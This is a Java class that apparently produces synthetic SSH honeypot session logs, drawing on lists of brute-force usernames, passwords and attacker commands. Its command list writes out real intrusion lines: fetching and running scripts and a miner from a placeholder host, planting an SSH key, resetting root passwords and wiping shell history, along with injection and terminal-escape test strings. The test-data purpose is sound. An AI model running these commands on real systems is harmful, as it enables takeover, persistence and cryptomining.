package io.cowrieshell.sandbox.log;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.SplittableRandom;

/** What attackers say: names, passwords and commands as they are met in the field, with keys and files of their own. */
final class Repertoire {

    private static final int CAMPAIGNS = 24;
    private static final int MODULUS_BYTES = 257;
    private static final int SHA_256_BYTES = 32;

    private static final String[] CLIENTS = {
        "SSH-2.0-Go",
        "SSH-2.0-Go",
        "SSH-2.0-libssh2_1.4.3",
        "SSH-2.0-libssh_0.9.6",
        "SSH-2.0-PUTTY",
        "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10",
        "SSH-2.0-paramiko_2.12.0",
        "SSH-2.0-ZGrab ZGrab SSH Survey"
    };

    private static final String[] NAMES = {
        "root",
        "root",
        "root",
        "root",
        "admin",
        "ubuntu",
        "user",
        "test",
        "oracle",
        "postgres",
        "pi",
        "git",
        "solana",
        "ftpuser",
        "345gs5662d34",
        "GET / HTTP/1.1",
        "José",
        "root\t"
    };

    private static final String[] PASSWORDS = {
        "123456",
        "admin",
        "password",
        "root",
        "1234",
        "P@ssw0rd",
        "3245gs5662d34",
        "qwerty",
        "1qaz2wsx",
        "raspberry",
        "",
        "toor",
        "Huawei@123",
        "пароль",
        "\"quoted\"",
        "\\back\\slash",
        "!@#$%^&*()",
        "ubuntu123"
    };

    private static final String[] COMMANDS = {
        "uname -a",
        "uname -s -v -n -r -m",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        "ls -lh $(which ls)",
        "crontab -l",
        "w",
        "uptime",
        "whoami",
        "top",
        "lscpu | grep Model",
        "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"@KEY@\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
        "echo @KEY@ >> ~/.ssh/authorized_keys",
        "echo \"root:@SECRET@\"|chpasswd|bash",
        "echo \"@SECRET@\\n@SECRET@\\n@SECRET@\\n\"|passwd",
        "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; echo > /etc/hosts.deny; pkill -9 sleep;",
        "cd /tmp || cd /var/run || cd /mnt; wget http://@HOST@/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
        "curl -s -L http://@HOST@/setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s 4@SECRET@@SECRET@@SECRET@",
        "/bin/busybox @SECRET@",
        "enable; system; shell; sh",
        "export HISTFILE=/dev/null; unset HISTFILE; history -c",
        "\u001b[A\u001b[B\u001b]0;owned\u0007\u001b[2J\u001b[31mls\u001b[0m",
        "echo -e \"\\x6F\\x6B\"; printf '\\033[2J'",
        "wget http://@HOST@/файл.sh -O /tmp/.x; echo '完成' 🐚",
        "echo '<script>alert(\"x\")</script>'; echo $'\\u202e'; : \u202etxt.exe",
        "'; DROP TABLE session_summaries; --",
        "nohup $SHELL -c \"curl http://@HOST@:60116/linux -o /tmp/@SECRET@; chmod +x /tmp/@SECRET@ && /tmp/@SECRET@\" &"
    };

    private static final String[] UNKNOWN = {
        "lockr -ia .ssh", "lscpu", "nproc", "nvidia-smi", "Enter new UNIX password: ", "\u0003"
    };

    private static final String[] HOSTS = {"ya.ru", "ip-who.com", "www.google.com", "v4.ident.me", "smtp.mail.example"};

    private final String[] keys = new String[CAMPAIGNS];
    private final String[] files = new String[CAMPAIGNS];

    Repertoire(long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        for (int campaign = 0; campaign < CAMPAIGNS; campaign++) {
            keys[campaign] = key(random) + " mdrfckr";
            files[campaign] = hex(random, SHA_256_BYTES);
        }
    }

    String client(SplittableRandom random) {
        return one(CLIENTS, random);
    }

    String name(SplittableRandom random) {
        return one(NAMES, random);
    }

    String password(SplittableRandom random) {
        return one(PASSWORDS, random);
    }

    String unknownCommand(SplittableRandom random) {
        return one(UNKNOWN, random);
    }

    /** Where an attacker wants to go from here. */
    String host(SplittableRandom random) {
        return one(HOSTS, random);
    }

    /** The SHA-256 of a file that is brought, the same one by many. */
    String file(SplittableRandom random) {
        return one(files, random);
    }

    String command(SplittableRandom random) {
        String command = one(COMMANDS, random);
        if (command.indexOf('@') < 0) {
            return command;
        }
        return command.replace("@KEY@", one(keys, random))
                .replace("@HOST@", "203.0.113." + random.nextInt(256))
                .replace("@SECRET@", hex(random, 6));
    }

    static String hex(SplittableRandom random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return HexFormat.of().formatHex(bytes);
    }

    private static String one(String[] of, SplittableRandom random) {
        return of[random.nextInt(of.length)];
    }

    /** A public key as ssh-keygen writes it; nobody has the private one. */
    private static String key(SplittableRandom random) {
        byte[] type = "ssh-rsa".getBytes(StandardCharsets.US_ASCII);
        byte[] exponent = {1, 0, 1};
        byte[] modulus = new byte[MODULUS_BYTES];
        random.nextBytes(modulus);
        modulus[0] = 0;
        ByteBuffer key = ByteBuffer.allocate(3 * Integer.BYTES + type.length + exponent.length + modulus.length);
        for (byte[] part : new byte[][] {type, exponent, modulus}) {
            key.putInt(part.length).put(part);
        }
        return "ssh-rsa " + Base64.getEncoder().encodeToString(key.array());
    }
}
